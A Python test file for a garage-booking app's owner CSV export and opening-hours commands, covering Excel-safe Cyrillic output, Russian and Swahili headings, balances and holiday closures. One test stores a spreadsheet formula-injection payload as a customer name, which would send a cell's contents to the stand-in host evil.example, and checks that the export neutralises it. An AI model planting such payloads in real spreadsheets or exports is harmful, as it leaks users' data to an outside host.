"""The owner's CSV export and opening hours, as an owner opens them: in Excel, in
Cyrillic, summing the balance column; and /hours after a day was closed and opened."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from click.testing import CliRunner

from core import booking, owner
from pitstop.cli import main
from pitstop.fakes.telegram import FakeTelegram
from pitstop.fakes.twilio import FakeTwilio
from tests.integration.channel_helpers import start_pitstop
from tests.integration.staff_helpers import ERLAN, WANJIRU, Clocked, book, verify_on_telegram
from tests.integration.test_staff import MONDAY_9, OWNER_TG, at


@pytest.fixture
def story(sqlite_url, tmp_path):
    with FakeTelegram() as telegram, FakeTwilio() as twilio:
        yield Clocked(start_pitstop(sqlite_url, telegram, twilio, {"PITSTOP_VAR_DIR": str(tmp_path / "var")}))


def exported(story, shop: int, tmp_path, lang: str = "en") -> bytes:
    with story.db.uow() as uow:
        path, _ = owner.export_csv(uow.session, shop, date(2026, 11, 1), date(2026, 11, 30), tmp_path / "x.csv", lang)
    return path.read_bytes()


def rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_a_name_or_plate_that_looks_like_a_formula_is_not_run_by_excel(story, tmp_path):
    shop = story.shop_id("mwangaza-motors")
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    book(story.db, shop, "5550009", ["oil-change"], at(24, 10), MONDAY_9, name=evil, plate="@SUM(A1)")
    [row] = rows(exported(story, shop, tmp_path))
    assert (row["Customer"], row["Plate"]) == (f"'{evil}", "'@SUM(A1)")


def test_the_export_opens_in_excel_with_cyrillic_names(story, tmp_path):
    shop = story.shop_id("zhaiyk-auto")
    book(story.db, shop, "5550077", ["oil-change"], datetime(2026, 11, 24, 5, 0, tzinfo=UTC), MONDAY_9, name="Алия",
         language="ru", plate="123 ABC 06")  # fmt: skip
    data = exported(story, shop, tmp_path, "ru")
    assert data.startswith("\ufeff".encode())  # without the mark Excel reads the local code page: "РђР»РёСЏ"
    assert rows(data)[0]["Клиент"] == "Алия"


def test_a_cancelled_or_missed_visit_owes_nothing_in_the_export(story, tmp_path):
    shop = story.shop_id("mwangaza-motors")
    cancelled = book(story.db, shop, "5550011", ["oil-change"], at(25, 10), MONDAY_9, name="Brian")
    missed = book(story.db, shop, "5550012", ["oil-change"], at(24, 10), MONDAY_9, name="Chege")
    kept = book(story.db, shop, "5550013", ["oil-change"], at(26, 10), MONDAY_9, name="Dora")
    booking.cancel(story.db, cancelled.id, "customer", MONDAY_9)
    booking.mark_no_show(story.db, missed.id, "staff", at(24, 10, 30))

    owed = {(r["Booking"], r["Status"], r["Balance"]) for r in rows(exported(story, shop, tmp_path))}

    assert owed == {(cancelled.code, "cancelled", "0.00"), (missed.code, "no-show", "0.00"),
                    (kept.code, "confirmed", "3500.00")}  # fmt: skip



def test_the_atyrau_owner_exports_in_russian_and_reads_every_heading_and_word(story):
    """Ерлан reads Russian: the headings, the status, the way to pay and where the customer
    booked from are his words; the date, times and amounts stay as a spreadsheet sums them."""
    shop, erlan = story.shop_id("zhaiyk-auto"), 7000001
    book(story.db, shop, "whatsapp:+77710001122", ["oil-change"], datetime(2026, 11, 24, 5, 0, tzinfo=UTC), MONDAY_9,
         channel="whatsapp", name="Алия", language="ru", method="kaspi", plate="123 ABC 06")  # fmt: skip
    verify_on_telegram(story, erlan, ERLAN, MONDAY_9, "zhaiyk-auto")

    story.say(erlan, "/export 1.11 30.11", at(23, 9, 5), "zhaiyk-auto")

    document = [m for m in story.p.telegram.sent_messages(erlan) if m["method"] == "sendDocument"][-1]
    assert document["file"]["content"].startswith("\ufeff".encode())
    header, first = document["file"]["content"].decode("utf-8-sig").splitlines()[:2]
    assert header == ("Запись,Дата,Начало,Конец,Статус,Клиент,Телефон,Госномер,Услуги,Механик,Пост,Стоимость,"
                      "Оплачено,К оплате,Валюта,Способ оплаты,Канал записи")  # fmt: skip
    assert first == ("ZA-1001,2026-11-24,10:00,10:40,подтверждена,Алия,+77710001122,123 ABC 06,"
                     "Замена масла и фильтра,Айдос Нұрланұлы,Пост 1,12000.00,0.00,12000.00,KZT,Kaspi,WhatsApp")  # fmt: skip


def test_pitstop_digest_in_swahili_writes_the_nairobi_csv_in_swahili(story, sqlite_url, tmp_path, monkeypatch):
    """`pitstop digest --lang sw` exports the day with Swahili headings and words."""
    shop = story.shop_id("mwangaza-motors")
    book(story.db, shop, "whatsapp:+254712345678", ["oil-change"], at(24, 10), MONDAY_9, channel="whatsapp",
         name="Baraka", language="sw", method="mpesa", plate="KDA 456B")  # fmt: skip
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.delenv("REDIS_URL", raising=False)
    monkeypatch.chdir(tmp_path)

    result = CliRunner().invoke(main, ["digest", "--shop", "mwangaza-motors", "--date", "2026-11-24", "--lang", "sw",
                                       "--out", str(tmp_path / "out")])  # fmt: skip

    assert result.exit_code == 0, result.output
    data = (tmp_path / "out" / "mwangaza-motors-2026-11-24.csv").read_bytes()
    assert data.startswith("\ufeff".encode())
    header, first = data.decode("utf-8-sig").splitlines()[:2]
    assert header == ("Miadi,Tarehe,Mwanzo,Mwisho,Hali,Mteja,Simu,Namba ya gari,Huduma,Fundi,Eneo la kazi,Bei,"
                      "Imelipwa,Salio,Sarafu,Njia ya malipo,Imewekwa kupitia")  # fmt: skip
    assert first == ("MM-1001,2026-11-24,10:00,10:45,imethibitishwa,Baraka,+254712345678,KDA 456B,"
                     "Kubadilisha oili na chujio,Otieno Ochieng,Lift 1,3500.00,0.00,3500.00,KES,M-Pesa,WhatsApp")  # fmt: skip

def test_hours_do_not_call_an_ordinary_day_opened_again_a_public_holiday(story):
    verify_on_telegram(story, OWNER_TG, WANJIRU, MONDAY_9)
    story.say(OWNER_TG, "/close 25.11 power cut", at(23, 10))
    story.say(OWNER_TG, "/open 25.11", at(23, 11))
    story.say(OWNER_TG, "/hours", at(23, 11))
    hours = story.last(OWNER_TG)
    assert "Wednesday: 08:00-18:00" in hours and "Wed 25 Nov" not in hours
    story.say(OWNER_TG, "/open 25.12", at(23, 11))  # Christmas
    story.say(OWNER_TG, "/hours", at(23, 11))
    assert "Open on Fri 25 Dec (despite a public holiday)" in story.last(OWNER_TG)


def test_hours_list_the_public_holidays_customers_are_told_the_shop_is_closed_on(story):
    verify_on_telegram(story, OWNER_TG, WANJIRU, MONDAY_9)
    story.say(OWNER_TG, "/open 25.12", at(24, 11))  # Christmas: open after all
    story.say(OWNER_TG, "/hours", at(24, 11))
    closures = [line for line in story.last(OWNER_TG).splitlines() if line.startswith(("Closed on", "Open on"))]
    assert closures == ["Closed on Sat 12 Dec: public holiday",  # Jamhuri Day
                        "Closed on Thu 24 Dec: Christmas Eve stocktake",  # the shop file's own closure
                        "Open on Fri 25 Dec (despite a public holiday)",
                        "Closed on Sat 26 Dec: public holiday",  # Boxing Day
                        "Closed on Fri 1 Jan: public holiday"]  # fmt: skip
